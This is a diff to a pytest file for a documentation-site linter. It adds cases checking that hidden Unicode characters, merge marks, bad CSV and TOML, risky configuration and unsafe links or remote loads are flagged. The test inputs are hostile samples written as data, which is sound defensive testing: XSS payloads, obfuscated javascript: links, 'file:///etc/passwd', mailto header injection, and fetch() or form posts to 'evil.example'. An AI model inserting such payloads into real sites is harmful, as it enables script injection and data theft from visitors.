@@ -127,6 +127,8 @@ def test_a_linked_folder_of_pages_is_not_walked(tiny, tmp_path_factory):
             "docs/en/LPT1.md",
             "docs/en/page.md~",
             "docs/en/page.md.",
+            "docs/en/page.md/x.md",
+            "docs/assets/x.svg/y.svg",
             "docs/en/-page.md",
             "docs/en/<img src=x>.md",
             "docs/en/%2e%2e.md",
@@ -301,6 +303,9 @@ def test_a_byte_order_mark_stands_where_programs_bear_it(tiny, path, data, rules
         "a\u2069b", "a\u2066b\n\u2069", "a\u200eb", "أ\u200f\u200fب", "`أ\u200fب`", "[أ](x\u200f.md)",
         "أ [x][a\u200f]", "a\u200db", "a\u200c", "1\u200c2", "a\rb", "Z\u0351\u0352\u0353\u0354\u0355x",
         "\x02wzxhzdk:0\x03", "a\ufdd0b", "a\U0001d173b", "a\u061cb",
+        "a\ufe0fb", "❤\ufe00", "❤\ufe0f\ufe0f", "`\u2066a\u2069`",
+        "| أ\u2066 | b\u2069 |", "أ" + "\u2067" * 5 + "ب" + "\u2069" * 5, "a&#x202E;b", "a&#8238;b", "a&ZeroWidthSpace;b",
+        "a&#x2066;b", "a&lrm;b", "a&shy;b", "a&#0;b", "<bdi>a&#x202Ex</bdi>",
     ]),
 )  # fmt: skip
 def test_a_character_that_nobody_sees_is_named_and_never_printed(tiny, text, capsys):
@@ -309,7 +314,7 @@ def test_a_character_that_nobody_sees_is_named_and_never_printed(tiny, text, cap
     assert run_command(check_sources.main, tiny) == 1
     shown = capsys.readouterr().out
     assert f"docs/en/x.md:{BODY + 2}: error: hidden-character" in shown
-    assert re.search(r"U\+[0-9A-F]{4,5}", shown)
+    assert re.search(r"U\+[0-9A-F]{4,5}", shown) or "by its number" in shown
     assert not re.search("[\u200b-\u200f\u202a-\u202e\u2066-\u2069\x1b]", shown)
 
 
@@ -317,6 +322,8 @@ def test_a_character_that_nobody_sees_is_named_and_never_printed(tiny, text, cap
     "text",
     each([
         "أ\u200fب", "قال: هـ\u200d", "می\u200cخواهم", "\u2066+5%\u2069 نمو", "a\u00a0b", "1\u202f000",
+        "1\ufe0f\u20e3 and ℹ\ufe0f", "أ&rlm;ب", "می&zwnj;خواهم", "5&nbsp;km", "`&#x202E;`", "```\n&#x202E;\n```",
+        "| \u2066a\u2069 | \u2067ب\u2069 |", "«\u2067قال \u2066a\u2069\u2069»", "AT&T?a&shy=1",
         "👩\u200d🔬", "مُحَمَّدٌ", "crème brûlée", "a\tb", "Привет, 你好", "❤\ufe0f",
     ]),
 )  # fmt: skip
@@ -324,6 +331,22 @@ def test_characters_that_languages_need_pass(tiny, text):
     write(tiny, "docs/en/x.md", f"{HEAD}\n{text}\n")
 
     assert found(tiny) == set()
+
+
+@pytest.mark.parametrize("line", ["if \u2067admin\u2069:", "أ\u200fب", "\u2067"])
+def test_no_direction_is_set_in_a_sample_of_code(tiny, line):
+    write(tiny, "docs/ar/x.md", f"{HEAD}\n```\n{line}\n```\n")
+
+    assert found(tiny) == {("docs/ar/x.md", BODY + 2, "hidden-character")}
+
+
+@pytest.mark.parametrize(
+    "mark", ["<<<<<<<", "<<<<<<< HEAD", ">>>>>>>", ">>>>>>> theirs", "||||||| base"]
+)
+def test_one_mark_of_a_merge_is_enough(tiny, mark):
+    write(tiny, "docs/en/x.md", f"{HEAD}\n{mark}\n\ntext\n")
+
+    assert ("docs/en/x.md", BODY + 1, "merge-conflict") in found(tiny)
 
 
 def test_marks_of_a_merge_are_named(tiny):
@@ -442,7 +465,8 @@ BAD_ADDRESSES = [
     "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "file:///etc/passwd",
     "blob:x", "//evil.example/x", "\\\\\\\\evil.example", "/\\\\evil.example", "https:\\\\\\\\evil.example",
     "tel:123", "https://bank.example@evil.example/", "https://user:pass@evil.example/", "intent:x",
-    "ftp://a.example/", "mailto:a@b.org?cc=c@d.org", "https://аррӏе.com/", "https://", "view-source:x",
+    "ftp://a.example/", "mailto:a@b.org?cc=c@d.org", "mailto:a@b.org?subject=a%0d%0aBcc:x",
+    "mailto:a@b.org?subject=a&bcc=c@d.org", "mailto:a@b.org?body=x", "https://аррӏе.com/", "https://", "view-source:x",
 ]  # fmt: skip
 
 
@@ -482,7 +506,7 @@ def test_a_picture_is_our_own_and_a_link_does_not_lie(text):
         "[a](mailto:a@b.org)", "<https://a.example/>", "[a.example](https://www.a.example/)",
         "[b](https://موقع.مصر/)", "[a](https://a.example/%D8%A7)", '[a](x.md "b")',
         "`[a](javascript:alert(1))`", "    [a](javascript:alert(1))", "[a](http://a.example:8080/)",
-        "[a](https://a.example/(b))", "[Fig. 1](x.md)",
+        "[a](https://a.example/(b))", "[Fig. 1](x.md)", "[a](mailto:a@b.org?subject=A%20slip%D8%A3)",
     ]),
 )  # fmt: skip
 def test_an_ordinary_link_passes(text):
@@ -511,7 +535,9 @@ BAD_HTML = [
     "![a](x.png){: onerror=alert(1) }", "[a](x.md){: target=_blank }", "# A {#__search}", "# A {#a\"b}",
     "| a |\n|---|\n| b {: onclick=x } |", "\\<script>", "<p lang='x\"y'>a</p>",
     "<!-- a --!><script>alert(1)</script>", "<!--><script>alert(1)</script>-->", "<?php x ?><script>y</script>",
-    "<div markdown onclick=x>\na\n</div>", "<p class='a\" onclick=x'>a</p>",
+    "<div markdown onclick=x>\na\n</div>", "<p class='a\" onclick=x'>a</p>", "<![CDATA[a]]> b", "<!DOCTYPE html>",
+    "<p title='a<img src=x onerror=alert(1)>'>a</p>", "[a](x.md \"&lt;img src=x&gt;\")", "<div markdown>\n\na",
+    "<details markdown>\n<summary>a</summary>\n\n<div markdown>\n\nb\n\n</details>",
 ]  # fmt: skip
 
 
@@ -533,7 +559,8 @@ def test_html_is_judged_by_what_a_browser_makes_of_it(text):
         "*[GDP]: Gross domestic product\n\nGDP", "| a | b |\n|:--|--:|\n| 1 | 2 |", "!!! note\n    a",
         "??? note\n    a", "<!-- allow: x: y -->", "a  \nb", "H<sub>2</sub>O", "<br>", "a\n:   b",
         "`{: onclick=alert(1) }`", "1 < 2 && 3 > 2", "<https://a.example/>", "![a](x.png){ width=\"300\" }",
-        "{{ config }}", "a {b} c",
+        "{{ config }}", "a {b} c", "    <div markdown>\n    a", "```\n<div markdown>\n```", "`<div markdown>` a", "`<![CDATA[` a",
+        "<div markdown>\n\n<div markdown>\n\na\n\n</div>\n\n</div>", "AT&T and &amp; and &lt;b&gt;",
     ]),
 )  # fmt: skip
 def test_code_samples_and_what_the_site_uses_pass(text):
@@ -691,7 +718,10 @@ BAD_CSV = {
     "a short row": ("a,b\n1\n", 2),
     "a long row": ("a,b\n1,2,3\n", 2),
     "an open quote": ('a,b\n1,"2\n3,4\n', 2),
-    "a quote within": ('a,b\n1,2"3"\n4,"5"6\n', 3),
+    "a line break in a number": ('a,b\n1,"2.\n5"\n', 2),
+    "a direction over two cells": ("a,b\n\u2066x,y\u2069\n", 2),
+    "a quote within": ('a,b\n1,2"3"\n', 2),
+    "a quote that ends too early": ('a,b\n1,2\n4,"5"6\n', 3),
     "a column twice": ("a,a\n1,2\n", 1),
     "a column without a name": ("a,\n1,2\n", 1),
     "a blank in a name": ("a, b\n1,2\n", 1),
@@ -764,6 +794,11 @@ BAD_TOML = {
     "no such day": ("a = 2026-02-30\n", 1),
     "not closed": ("[a\nb = 1\n", 1),
     "words": ("hello\n", 1),
+    "more than a number can be": ("[a]\nb = 1e999\n", 2),
+    "a name of another alphabet": ('[a]\n["trаde"]\nb = 1\n', 2),
+    "a name of markup": ("[a]\n['<img src=x>']\nb = 1\n", 2),
+    "no name": ('[a]\nb = 1\n[""]\nc = 1\n', 3),
+    "a blank around a name": ('["a "]\nc = 1\n', 1),
 }
 
 
@@ -776,10 +811,30 @@ def test_toml_is_read_or_its_fault_has_a_line(tiny, name):
     assert line is None or findings == {("docs/data/x.toml", line, "data-file")}
 
 
-def test_an_escape_hides_nothing_in_toml(tiny):
-    write(tiny, "docs/data/x.toml", 'a = "b"\nc = "d\\u202Ee"\n')
+@pytest.mark.parametrize(
+    "line",
+    ['c = "d\\u202Ee"', '"c\\u200b" = "d"', 'c = ["d", {e = "\\U0000202E"}]', 'c = "\u2067d"'],
+)
+def test_an_escape_hides_nothing_in_toml(tiny, line):
+    write(tiny, "docs/data/x.toml", f'a = "b"\n{line}\n')
 
     assert found(tiny) == {("docs/data/x.toml", 2, "hidden-character")}
+
+
+def test_an_escape_hides_nothing_in_json(tiny):
+    write(tiny, "docs/data/x.json", '{"a": "b",\n"c": ["d\\u202Ee"]}\n')
+
+    assert found(tiny) == {("docs/data/x.json", 2, "hidden-character")}
+
+
+@pytest.mark.parametrize(
+    "line",
+    ['url = "javascript:alert(1)"', 'archive = "java\\tscript:alert(1)"', 'url = "https://bank.example@evil.example/"', 'other = ["https://bank.example@evil.example/"]', 'url = "ftp://a.example/"'],
+)  # fmt: skip
+def test_an_address_in_toml_leads_where_it_seems_to(tiny, line):
+    write(tiny, "docs/data/x.toml", f'archive = "Archived copy"\n[a]\n{line}\n')
+
+    assert found(tiny) == {("docs/data/x.toml", 3, "unsafe-link")}
 
 
 @pytest.mark.parametrize(
@@ -828,6 +883,14 @@ BAD_CONFIGURATION = {
     "deep": ("strict: true", "x: " + "[" * 1500),
     "a scheme": ('"http://127.0.0.1:8000/"', '"javascript:alert(1)"'),
     "a folder outside": ("  - overrides", "  - /etc"),
+    "strictness left out": ("strict: true\n", ""),
+    "the theme's fonts left out": (next(line for line in CONFIGURATION.splitlines(keepends=True) if "font: false" in line), ""),
+    "templates left out": ("  custom_dir: overrides\n", ""),
+    "a hook left out": ("  - scripts/hooks/website.py\n", ""),
+    "a password of the machine": ("site_name: ميزان", "site_name: !ENV GITHUB_TOKEN"),
+    "one of two passwords": ("!ENV [SITE_URL, ", "!ENV [SITE_URL, DEPLOY_KEY, "),
+    "an invisible letter by its number": ("site_name: ميزان", 'site_name: "a\\u202Eb"'),
+    "nothing at all": (CONFIGURATION, ""),
 }  # fmt: skip
 
 
@@ -859,8 +922,10 @@ def test_the_configuration_names_nothing_unknown(configured, name):
     write(configured, "mkdocs.yml", text)
 
     lines = {line for path, line, rule in found(configured) if rule == "site-configuration"}
-    first = text[: text.index(new)].count("\n") + 1
+    first = text[: text.index(new)].count("\n") + 1 if new else 1
     assert lines
+    if not new:  # what is missing is told where it belongs: at the top, or in its part
+        return
     assert lines <= set(range(first, first + new.count("\n") + 3))
 
 
@@ -869,6 +934,18 @@ def test_the_configuration_names_nothing_unknown(configured, name):
     [
         ("docs/assets/stylesheets/x.css", "@import url(https://evil.example/x.css);"),
         ("docs/assets/stylesheets/x.css", "a { background: url(//evil.example/x.png) }"),
+        ("docs/assets/stylesheets/x.css", "a { background: u\\72 l(//evil.example/x.png) }"),
+        ("docs/assets/stylesheets/x.css", "@\\69mport '//evil.example/x.css';"),
+        (
+            "docs/assets/stylesheets/x.css",
+            'a{content:"/*"} b{background:url(//evil.example/x)} c{content:"*/"}',
+        ),
+        ("docs/assets/stylesheets/x.css", "{#} a{background:url(//evil.example/x)} b{#}"),
+        (
+            "docs/assets/javascripts/x.js",
+            'const a = "/*"; fetch("//evil.example/"); const b = "*/";',
+        ),
+        ("docs/assets/javascripts/x.js", 'fetch("\\x68ttps://evil.example/")'),
         ("docs/assets/javascripts/x.js", 'import x from "https://evil.example/x.js";'),
         ("docs/assets/javascripts/x.js", "eval(location.hash)"),
         ("docs/assets/javascripts/x.js", 'fetch("//evil.example/")'),
@@ -878,6 +955,13 @@ def test_the_configuration_names_nothing_unknown(configured, name):
         ("overrides/main.html", '<link rel="stylesheet" href="https://evil.example/x.css">'),
         ("overrides/main.html", '<body onload="alert(1)">'),
         ("overrides/main.html", "{{ page.title | safe }}"),
+        ("overrides/main.html", "<img src=x onerror=alert(1)>"),
+        ("overrides/main.html", "<img/onerror=alert(1)>"),
+        ("overrides/main.html", '/* <script src="https://evil.example/x.js"></script> */'),
+        ("overrides/main.html", '<a href="java&#115;cript:alert(1)">a</a>'),
+        ("overrides/main.html", '<a href="java\tscript:alert(1)">a</a>'),
+        ("overrides/main.html", '<form action="https://evil.example/">'),
+        ("overrides/main.html", '<meta http-equiv="refresh" content="0;url=x">'),
     ],
 )
 def test_templates_styles_and_scripts_fetch_nothing_from_elsewhere(tiny, path, text):
